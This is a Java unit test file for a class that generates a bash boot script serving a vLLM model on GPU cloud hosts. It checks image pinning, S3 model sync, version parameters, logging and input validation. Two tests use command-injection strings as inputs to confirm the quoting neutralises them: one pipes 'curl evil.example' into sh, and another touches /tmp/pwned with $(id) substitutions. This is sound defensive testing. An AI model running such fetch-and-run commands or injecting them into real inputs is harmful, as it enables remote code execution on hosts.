package dev.meridian.constructs.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;

class GpuHostUserDataTest {

  private static GpuHostUserData userData(String modelName, PinnedVersion version) {
    return new GpuHostUserData("vllm/vllm-openai:v0.6.3", 8000, modelName, "acme-artifacts",
        "models/llama-3.1-8b/", version, "/meridian/serving", List.of("--max-model-len", "8192"));
  }

  private static final String SCRIPT =
      userData("meta-llama/Llama-3.1-8B-Instruct", PinnedVersion.of("2025-06-01")).script();

  @Test
  void runsThePinnedImageOnEveryGpuWithItsPortPublished() {
    assertThat(SCRIPT).contains("--gpus all")
        .contains("--publish 8000:8000")
        .contains(" 'vllm/vllm-openai:v0.6.3' --model /model")
        .contains("--port 8000")
        .contains("--tensor-parallel-size \"$GPUS\"");
  }

  @Test
  void servesTheModelUnderItsName() {
    assertThat(SCRIPT).contains("--served-model-name 'meta-llama/Llama-3.1-8B-Instruct'");
  }

  @Test
  void copiesTheArtifactOfThePinnedVersion() {
    assertThat(SCRIPT).contains("MODEL_VERSION='2025-06-01'\n")
        .contains("aws s3 sync --region \"$REGION\" --only-show-errors 's3://acme-artifacts/models/llama-3.1-8b/'\"$MODEL_VERSION/\" /opt/meridian/model");
  }

  @Test
  void readsTheVersionFromItsParameterWhenGiven() {
    String script = userData("m", PinnedVersion.fromParameter("/meridian/chat/model-version")).script();

    assertThat(script).contains("MODEL_VERSION=\"$(aws ssm get-parameter --region \"$REGION\""
        + " --name '/meridian/chat/model-version' --query Parameter.Value --output text)\"");
  }

  @Test
  void refusesAVersionThatIsNotOnePathSegmentAtBoot() {
    assertThat(SCRIPT).contains("case \"$MODEL_VERSION\" in ''|*/*|.|..)");
  }

  @Test
  void sendsContainerLogsToTheLogGroupInTheHostsRegion() {
    assertThat(SCRIPT).contains("--log-driver awslogs --log-opt awslogs-region=\"$REGION\"")
        .contains("--log-opt awslogs-group='/meridian/serving'");
  }

  @Test
  void passesExtraServerArgumentsQuoted() {
    assertThat(SCRIPT).endsWith(" '--max-model-len' '8192'\n");
  }

  @Test
  void stopsAtTheFirstFailingCommand() {
    assertThat(SCRIPT).startsWith("#!/bin/bash\nset -euo pipefail\n");
  }

  @Test
  void quotesAModelNameThatTriesToInjectACommand() {
    String script = userData("x'; curl evil.example | sh; echo '", PinnedVersion.of("1")).script();

    assertThat(script).contains("--served-model-name 'x'\\''; curl evil.example | sh; echo '\\'''");
  }

  @Test
  void anInjectedModelNameStaysOneWordWhenTheShellParsesIt() throws Exception {
    String hostile = "x'; touch /tmp/pwned; echo '$(id)`id`";
    Process bash = new ProcessBuilder("bash", "-c", "printf '%s\\n' " + ShellQuoting.quote(hostile)).start();

    assertThat(new String(bash.getInputStream().readAllBytes())).isEqualTo(hostile + "\n");
    assertThat(bash.waitFor()).isZero();
  }

  @Test
  void rejectsAnImageWithSpaces() {
    assertThatThrownBy(() -> new GpuHostUserData("vllm/vllm-openai:v0.6.3 --privileged", 8000, "m", "b", "p/",
        PinnedVersion.of("1"), "g", List.of()))
        .hasMessageStartingWith("image: ");
  }

  @Test
  void rejectsAPortOutOfRange() {
    assertThatThrownBy(() -> new GpuHostUserData("i", 70000, "m", "b", "p/", PinnedVersion.of("1"), "g", List.of()))
        .hasMessage("port: 70000 is not a port; use 1-65535");
  }

  @Test
  void addsTheMissingSlashToTheArtifactPrefix() {
    GpuHostUserData data = new GpuHostUserData("i", 8000, "m", "b", "/models/x", PinnedVersion.of("1"), "g", List.of());

    assertThat(data.artifactFolder()).isEqualTo("s3://b/models/x/");
  }
}
